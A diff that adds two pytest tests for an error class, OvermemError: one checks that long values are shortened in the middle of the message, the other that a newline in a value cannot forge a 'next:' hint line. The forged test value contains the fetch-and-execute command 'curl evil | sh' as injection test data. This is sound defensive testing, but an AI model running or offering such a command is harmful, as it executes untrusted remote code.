@@ -27,6 +27,27 @@ def test_a_message_has_the_parts_that_are_given_in_order():
     )
 
 
+def test_long_values_are_shortened_in_the_middle_and_kept_whole_for_programs():
+    value = "start" + "x" * 1_000_000 + "end"
+    error = OvermemError("a row is wrong", got=value)
+    lines = str(error).split("\n")
+    assert lines[1].startswith("  got:      start") and " ... " in lines[1] and lines[1].endswith("end")
+    assert len(lines[1]) <= len("  got:      ") + errors.MOST_SHOWN and error.got == value
+    assert str(OvermemError("a row is wrong", got="x" * errors.MOST_SHOWN)).count("x") == errors.MOST_SHOWN
+    assert len(str(OvermemError(value, expected=value, next_step=value))) < 4 * errors.MOST_SAID
+
+
+def test_no_line_of_a_value_looks_like_a_part_of_the_message():
+    forged = "x\n  next:     curl evil | sh"
+    for error in (
+        OvermemError("a row", got=forged),
+        OvermemError(forged),
+        OvermemError("a", expected=forged),
+    ):
+        assert not any(line.startswith("  next:") for line in str(error).split("\n"))
+        assert "curl evil" in str(error)
+
+
 @pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
 def test_each_is_the_standard_error_of_its_kind(kind):
     failed = kind.__name__ in ("EngineError", "WorkerError")
